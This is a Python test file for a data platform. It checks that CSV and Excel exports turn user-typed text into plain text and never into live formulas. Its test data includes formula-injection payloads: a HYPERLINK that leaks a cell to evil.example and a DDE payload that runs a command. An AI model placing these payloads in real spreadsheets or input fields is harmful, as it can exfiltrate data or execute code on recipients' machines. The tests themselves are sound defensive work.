"""Spreadsheet formula injection (issue 9, item 5): text a user typed must reach Excel as text, never as a
formula, in record exports and analytics exports alike, and our own export must re-import unchanged."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from techbridge.analytics.export import export_table
from techbridge.analytics.models import TableData
from techbridge.domain.access import Scope
from techbridge.domain.records import Demand
from techbridge.ingest.export import export_records
from techbridge.ingest.importer import import_file
from techbridge.store.db import session_scope
from techbridge.store.records import RecordQuery, list_records, upsert_records

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看详情")',
    "+1+1 测试需求名称",
    "-2+3 低温电池需求",
    "@SUM(A1:A9) 测试需求",
    "=cmd|' /C calc'!A0",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _seed(url: str) -> None:
    demands = [
        Demand(
            zone_code="wuxi",
            title=title,
            organization="=无锡甲公司" if i == 0 else "无锡甲公司",
            keywords=["=1+1", "隔膜"] if i == 1 else [],
            description="-" * 3 + " 说明",
        )
        for i, title in enumerate(HOSTILE)
    ]
    with session_scope(url) as s:
        upsert_records(s, "demand", demands)


def _formula_cells(path: Path) -> int:
    sheet = load_workbook(path).worksheets[0]  # not data_only: formulas stay formulas
    return sum(1 for row in sheet.iter_rows() for cell in row if cell.data_type == "f")


def test_record_export_to_xlsx_has_no_formula_cells(db_url: str, tmp_path: Path) -> None:
    _seed(db_url)
    path = tmp_path / "demands.xlsx"
    assert export_records(db_url, "demand", path, scope=Scope("wuxi")) == len(HOSTILE)
    assert _formula_cells(path) == 0
    sheet = load_workbook(path).worksheets[0]
    column = [c.value for c in sheet[1]].index("需求名称")
    titles = [row[column] for row in sheet.iter_rows(min_row=2)]
    assert sorted(c.value for c in titles) == sorted(HOSTILE)  # shown as typed: no visible quote
    assert all(c.quotePrefix and c.data_type == "s" for c in titles)  # Excel's own "text" flag


def test_record_export_to_csv_quotes_every_formula_like_cell(db_url: str, tmp_path: Path) -> None:
    _seed(db_url)
    path = tmp_path / "demands.csv"
    export_records(db_url, "demand", path, scope=Scope("wuxi"))
    cells = [cell for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))) for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    assert "'" + HOSTILE[0] in cells and "'=1+1;隔膜" in cells and "'--- 说明" in cells


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_our_own_export_reimports_to_the_original_values(db_url: str, tmp_path: Path, fmt: str) -> None:
    _seed(db_url)
    path = tmp_path / f"demands.{fmt}"
    export_records(db_url, "demand", path, scope=Scope("wuxi"))
    report = import_file(db_url, "demand", path, zone_code="wuxi")
    assert (report.inserted, report.updated, report.unchanged) == (0, 0, len(HOSTILE))
    with session_scope(db_url) as s:
        stored = list_records(s, "demand", scope=Scope("wuxi"), query=RecordQuery(per_page=50)).items
    assert sorted(d.record.title for d in stored) == sorted(HOSTILE)


def test_a_quote_we_did_not_add_is_kept(sqlite_url: str, tmp_path: Path) -> None:
    path = tmp_path / "d.csv"
    path.write_text(
        "需求名称,需求单位\n'90后' 创业团队需求,无锡甲公司\n'-20℃ 电池需求,无锡甲公司\n", encoding="utf-8"
    )
    import_file(sqlite_url, "demand", path, zone_code="wuxi")
    with session_scope(sqlite_url) as s:
        stored = list_records(s, "demand", scope=Scope("wuxi"), query=RecordQuery(sort="title")).items
    assert sorted(d.record.title for d in stored) == ["'90后' 创业团队需求", "-20℃ 电池需求"]


def test_analytics_exports_neutralise_formulas() -> None:
    table = TableData(
        title="=月报",
        columns=["项目", "=备注"],
        rows=[[HOSTILE[0], "+86 138"], ["@SUM(A1)", 12.5], ["-", None]],
    )
    cells = [
        c for row in csv.reader(io.StringIO(export_table(table, "csv").decode("utf-8-sig"))) for c in row
    ]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    book = load_workbook(io.BytesIO(export_table(table, "xlsx")))
    sheet = book.worksheets[0]
    assert sum(1 for row in sheet.iter_rows() for cell in row if cell.data_type == "f") == 0
    assert [c.value for c in sheet[2]] == [HOSTILE[0], "+86 138"] and sheet["B3"].value == 12.5
